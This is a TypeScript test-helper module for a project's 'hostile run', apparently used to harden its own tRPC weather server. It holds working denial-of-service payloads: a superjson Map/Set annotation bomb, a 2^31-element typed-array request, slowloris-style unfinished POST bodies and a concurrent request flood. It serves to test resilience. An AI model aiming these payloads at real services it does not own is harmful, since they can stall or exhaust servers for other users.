/**
 * The attacks of the second hostile run (issue 15), as functions over a
 * station URL, so the suite and `scripts/hostile-round-two.ts` run the very
 * same requests and print the same figures.
 */
import { Agent, request as httpRequest } from 'node:http';
import { connect, type Socket } from 'node:net';

export interface Timed {
  status: number;
  ms: number;
  text: string;
  headers: Record<string, string | string[] | undefined>;
}

/** One HTTP request (status 0 when it failed or timed out), with how long it took. */
export function timedRequest(
  url: string,
  opts: {
    method?: string;
    headers?: Record<string, string>;
    body?: string;
    timeoutMs?: number;
    agent?: Agent | false;
  } = {},
): Promise<Timed> {
  const started = performance.now();
  return new Promise((resolve) => {
    const done = (status: number, text: string, headers: Timed['headers'] = {}) =>
      resolve({ status, ms: Math.round(performance.now() - started), text, headers });
    const req = httpRequest(
      url,
      { method: opts.method ?? 'GET', headers: opts.headers, agent: opts.agent ?? false },
      (res) => {
        const chunks: Buffer[] = [];
        res.on('data', (c: Buffer) => chunks.push(c));
        res.on('end', () => done(res.statusCode ?? 0, Buffer.concat(chunks).toString('utf8'), res.headers));
        res.on('error', (e) => done(0, String(e)));
      },
    );
    req.setTimeout(opts.timeoutMs ?? 60_000, () => req.destroy(new Error('timed out')));
    req.on('error', (e) => done(0, String(e)));
    req.end(opts.body);
  });
}

/**
 * Polls `/healthz` back to back until `stop` settles; the longest answer is
 * how long the server's event loop was stalled.
 */
export async function watchHealth(
  url: string,
  stop: Promise<unknown>,
): Promise<{ maxMs: number; polls: number }> {
  let done = false;
  void stop.finally(() => {
    done = true;
  });
  const agent = new Agent({ keepAlive: true, maxSockets: 1 });
  let maxMs = 0;
  let polls = 0;
  try {
    while (!done) {
      const answer = await timedRequest(`${url}/healthz`, { agent, timeoutMs: 120_000 });
      maxMs = Math.max(maxMs, answer.ms);
      polls++;
      await new Promise((r) => setTimeout(r, 5));
    }
  } finally {
    agent.destroy();
  }
  return { maxMs, polls };
}

/**
 * A superjson body for `weather.report` whose `meta.values` first turns a
 * 60,000-entry array into a Map (or Set), then points 20,000 annotations near
 * its end: superjson walks the collection from its start for each one.
 */
export function collectionBomb(kind: 'map' | 'set', entries = 60_000, annotations = 20_000): string {
  const values: Record<string, unknown> = { m: [kind] };
  const items =
    kind === 'map'
      ? Array.from({ length: entries }, (_, i) => [i, 0])
      : Array.from({ length: entries }, (_, i) => i);
  for (let i = 0; i < annotations; i++) {
    const row = entries - 1 - (i % entries);
    values[kind === 'map' ? `m.${row}.1` : `m.${row}`] = ['number'];
  }
  return JSON.stringify({ json: { city: 'Oslo', celsius: 1, m: items }, meta: { values } });
}

/** A typed-array annotation that asks for a 2^31-element Float64Array. */
export function typedArrayBomb(): string {
  return JSON.stringify({
    json: { city: 'Oslo', celsius: 1, t: 2 ** 31 },
    meta: { values: { t: [['typed-array', 'Float64Array']] } },
  });
}

/** Sends a bomb while watching /healthz: the bomb's answer and the worst health stall. */
export async function bombWithHealth(url: string, body: string, headers: Record<string, string> = {}) {
  const attack = timedRequest(`${url}/rpc/weather.report`, {
    method: 'POST',
    headers: { 'content-type': 'application/json', ...headers },
    body,
  });
  const [answer, health] = await Promise.all([attack, watchHealth(url, attack)]);
  return {
    status: answer.status,
    ms: answer.ms,
    healthStallMs: health.maxMs,
    bytes: Buffer.byteLength(body),
    text: answer.text,
  };
}

/**
 * Opens `count` POSTs that send their head (with a Content-Length) and never
 * their body. Returns the sockets; destroy them when done.
 */
export async function openUnfinishedBodies(
  url: string,
  count: number,
  headers: Record<string, string> = {},
  path = '/rpc/weather.report',
): Promise<Socket[]> {
  const { hostname, port } = new URL(url);
  const extra = Object.entries(headers)
    .map(([k, v]) => `${k}: ${v}\r\n`)
    .join('');
  const sockets = await Promise.all(
    Array.from(
      { length: count },
      () =>
        new Promise<Socket>((resolve) => {
          const socket = connect(Number(port), hostname, () => {
            socket.write(
              `POST ${path} HTTP/1.1\r\nhost: ${hostname}\r\ncontent-type: application/json\r\ncontent-length: 1000\r\n${extra}\r\n{"json":`,
            );
            resolve(socket);
          });
          socket.on('error', () => {});
        }),
    ),
  );
  // Let the server see every head before anything else is sent.
  await new Promise((r) => setTimeout(r, 300));
  return sockets;
}

/** Fires `count` requests from `make`, `concurrency` at a time; a tally of statuses. */
export async function tally(
  count: number,
  concurrency: number,
  make: (i: number) => Promise<{ status: number; headers?: Record<string, unknown> }>,
): Promise<{ byStatus: Record<string, number>; retryAfter: boolean; ms: number }> {
  const byStatus: Record<string, number> = {};
  let retryAfter = false;
  let next = 0;
  const started = performance.now();
  await Promise.all(
    Array.from({ length: concurrency }, async () => {
      while (next < count) {
        const i = next++;
        const r = await make(i);
        byStatus[r.status] = (byStatus[r.status] ?? 0) + 1;
        if (r.status === 429 && r.headers?.['retry-after'] !== undefined) retryAfter = true;
      }
    }),
  );
  return { byStatus, retryAfter, ms: Math.round(performance.now() - started) };
}

/** A small `weather.report` body. */
export function reportBody(city = 'Oslo', celsius = 1): string {
  return JSON.stringify({ json: { city, celsius } });
}

/** The Corbel code of an error answer (superjson-wrapped, as tRPC writes it), if any. */
export function corbelCodeOf(text: string): string | undefined {
  try {
    const error = JSON.parse(text).error;
    return (error?.json ?? error)?.data?.corbelCode;
  } catch {
    return undefined;
  }
}
